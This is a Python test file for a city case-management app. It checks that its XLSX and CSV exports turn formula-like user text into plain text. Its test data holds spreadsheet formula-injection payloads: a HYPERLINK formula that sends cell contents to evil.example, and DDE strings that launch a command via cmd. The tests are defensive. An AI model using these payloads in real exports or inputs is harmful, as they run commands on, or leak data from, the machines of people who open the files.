"""Exports safe to open: user text that a spreadsheet would read as a formula (= + - @, a tab or a
line break first, full-width forms too) is text in every ledger XLSX (explicit string type) and
every CSV export (the OWASP ``'`` prefix): case descriptions, dispute parties, imported area names."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from gridmap.accounts.actor import SYSTEM
from gridmap.boundaries.models import Area
from gridmap.db import transaction
from gridmap.incidents.history import append_event
from gridmap.textio import FORMULA_PREFIXES, formula_safe, formula_safe_frame
from tests.casehelpers import auth, make_case, make_category, make_token, make_user, make_worker
from tests.test_ledgers import local

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "＝1+1", "=1+1\n第二行"]
COMMUNITY = "330999001001"


@pytest.fixture
def hostile_texts(app, sessionmaker, loaded_city):
    from tests.test_pages import wire

    wire(app)
    with transaction(sessionmaker) as s:
        litter = make_category(s, "city.litter", name="暴露垃圾", limit=(2, "natural_days"))
        dispute = make_category(s, "dispute", name="矛盾纠纷", kind="dispute")
        w = make_worker(s, "W001", name="张伟")
        for i, p in enumerate(PAYLOADS):
            make_case(s, "in_progress", category=litter, worker=w, at=local(2 + i), description=p, title=p[:60],
                      reporter_name=p[:20], address=p[:100])
        d = make_case(s, "in_progress", category=dispute, worker=w, at=local(15), description="邻里纠纷")
        append_event(s, d, "record", SYSTEM, comment=PAYLOADS[0], data={"parties": PAYLOADS[:3], "outcome": PAYLOADS[3]},
                     at=local(15, 15))
        # an imported boundary name
        s.scalar(select(Area).where(Area.code == COMMUNITY)).name = "=cmd|' /C calc'!A0"
        make_user(s, "city", "city")
        tok = auth(make_token(s, "city"))
    return app.test_client(), tok


def _dangerous(v) -> bool:
    return isinstance(v, str) and v.startswith(FORMULA_PREFIXES)


def test_formula_safe_rule():
    for p in PAYLOADS:
        assert formula_safe(p) == "'" + p
    for ok in ("路边垃圾", "a=b", "", "'=already", "3.5"):
        assert formula_safe(ok) == ok
    assert formula_safe(-5) == -5 and formula_safe(None) is None
    df = pd.DataFrame({"t": PAYLOADS + ["普通"], "n": list(range(len(PAYLOADS) + 1))})
    out = formula_safe_frame(df)
    assert list(out["t"]) == ["'" + p for p in PAYLOADS] + ["普通"] and list(out["n"]) == list(df["n"])


def test_ledger_xlsx_stores_every_text_as_text(hostile_texts):
    c, tok = hostile_texts
    r = c.get(f"/api/v1/ledgers/all?area={COMMUNITY}&from=2026-03-01&to=2026-03-31&format=xlsx", headers=tok)
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    wb = load_workbook(io.BytesIO(r.data))
    formulas, texts = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((ws.title, cell.coordinate, cell.value))
                if _dangerous(cell.value):
                    texts.append(cell.value)
    assert formulas == []
    # the payloads are there, unchanged, as text: descriptions, the dispute's parties, the area name
    assert all(any(t == p or t.startswith(p) for t in texts) for p in PAYLOADS[:4]), texts[:10]
    assert any("=cmd|' /C calc'!A0" in (t or "") for t in texts + [ws["A1"].value for ws in wb.worksheets])


def test_csv_exports_prefix_every_formula_like_cell(hostile_texts):
    c, tok = hostile_texts
    for kind in ("cases", "hazards"):
        r = c.get(f"/api/v1/export?kind={kind}&format=csv&from=2026-03-01&to=2026-03-31", headers=tok)
        assert r.status_code == 200, r.get_data(as_text=True)[:300]
        rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))
        cells = [v for row in rows for v in row]
        assert not [v for v in cells if _dangerous(v)], [v for v in cells if _dangerous(v)][:5]
        if kind == "cases":
            assert all("'" + p in cells for p in PAYLOADS), "a payload went missing from the export"
